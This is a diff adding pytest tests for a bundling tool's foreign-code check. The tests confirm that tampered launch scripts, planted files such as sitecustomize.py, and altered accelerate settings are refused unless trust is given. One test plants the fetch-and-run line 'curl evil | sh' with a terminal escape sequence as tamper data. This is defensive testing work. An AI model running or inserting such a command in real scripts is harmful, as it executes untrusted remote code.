@@ -1,0 +1,102 @@
+"""Code from elsewhere is shown before it is run."""
+
+from pathlib import Path
+
+import pytest
+
+from cvbundle.archive.pack import archive_bundle
+from cvbundle.bundle.settings import read_spec
+from cvbundle.compiler.build import Compiled
+from cvbundle.execution.foreign_code import ForeignCode, foreign_code, require_own_code
+from cvbundle.execution.launch import plan_launch
+from cvbundle.problems import UserError
+from tests.bundle.reseal import plant, resealed, sealed
+
+
+def _change(path: Path, content: bytes) -> None:
+    for each in (path.parent, path):
+        if each.exists():
+            each.chmod(0o755)
+    path.write_bytes(content)
+
+
+def test_code_that_this_installation_writes_is_its_own(compiled: Compiled) -> None:
+    spec = read_spec(compiled.bundle)
+    assert foreign_code(compiled.bundle, spec) == []
+    require_own_code(compiled.bundle, spec)
+
+
+def test_what_is_other_about_the_code_is_shown_in_short(compiled: Compiled) -> None:
+    bundle = compiled.bundle
+    script = bundle / "launch.sh"
+    _change(script, script.read_bytes().replace(b"set -euo pipefail", b"curl evil | sh\x1b[2J"))
+    _change(bundle / "code/long.py", b"x = 1\n" * 99)
+    with pytest.raises(ForeignCode, match=r"code/long\.py, launch\.sh.*--trust") as refused:
+        require_own_code(bundle, read_spec(bundle))
+    assert len(refused.value.excerpt) == 21
+    assert refused.value.excerpt[-1].endswith("more lines")
+    (bundle / "code/long.py").unlink()
+    with pytest.raises(ForeignCode) as refused:
+        require_own_code(bundle, read_spec(bundle))
+    assert "-set -euo pipefail" in refused.value.excerpt
+    # What a terminal would obey is not passed on.
+    assert "+curl evil | sh\\x1b[2J" in refused.value.excerpt
+
+
+@pytest.mark.parametrize(
+    "name", ["code/evil.py", "code/sitecustomize.py", "code/torch/__init__.py", "code/venv.py"]
+)
+def test_code_that_this_installation_does_not_have_is_foreign(
+    name: str, compiled: Compiled
+) -> None:
+    plant(compiled.bundle, name)
+    bundle = sealed(compiled.bundle)
+    with pytest.raises(ForeignCode, match=rf"would not write \({name}\)") as refused:
+        plan_launch(bundle)
+    assert "+print('executed')" in refused.value.excerpt
+    assert plan_launch(bundle, trust=True).command
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        (b"distributed_type", b"debug: true\ndistributed_type"),
+        (b"distributed_type", b"main_training_function: evil\ndistributed_type"),
+        (b"mixed_precision", b"deepspeed_config: {}\nmixed_precision"),
+        (b"mixed_precision: ", b"mixed_precision:  "),
+    ],
+)
+def test_settings_of_accelerate_that_this_installation_would_not_write_are_foreign(
+    old: bytes, new: bytes, compiled: Compiled
+) -> None:
+    bundle = resealed(compiled.bundle, "accelerate.yaml", old, new)
+    with pytest.raises(ForeignCode, match=r"would not write \(accelerate\.yaml\)"):
+        plan_launch(bundle)
+    assert plan_launch(bundle, trust=True).command
+
+
+@pytest.mark.parametrize(
+    "name", ["local/sitecustomize.py", "local/bin/python", "runs/evil.py", "runs/torch/x.py"]
+)
+def test_what_lies_beside_a_bundle_and_belongs_to_none_needs_trust(
+    name: str, compiled: Compiled
+) -> None:
+    plant(compiled.bundle, name)
+    stray = "/".join(name.split("/")[:2])
+    with pytest.raises(UserError, match=rf"holds what no bundle does \({stray}\): .*--trust"):
+        plan_launch(compiled.bundle)
+    assert plan_launch(compiled.bundle, trust=True).command
+
+
+def test_a_validation_image_that_the_settings_do_not_name_needs_trust(compiled: Compiled) -> None:
+    plant(compiled.bundle, "validation/07.png")
+    bundle = sealed(compiled.bundle)
+    with pytest.raises(UserError, match=r"holds what no bundle does \(validation/07\.png\)"):
+        plan_launch(bundle)
+
+
+def test_what_compiling_running_and_archiving_leave_is_no_stranger(compiled: Compiled) -> None:
+    for name in ("runs/0001/run.json", "local/.paths.json.x.tmp", "local/data/a.mp4"):
+        plant(compiled.bundle, name, b"{}")
+    archive_bundle(compiled.bundle, compiled.bundle.parent / "it.tar.zst", provenance=True)
+    assert plan_launch(compiled.bundle).command
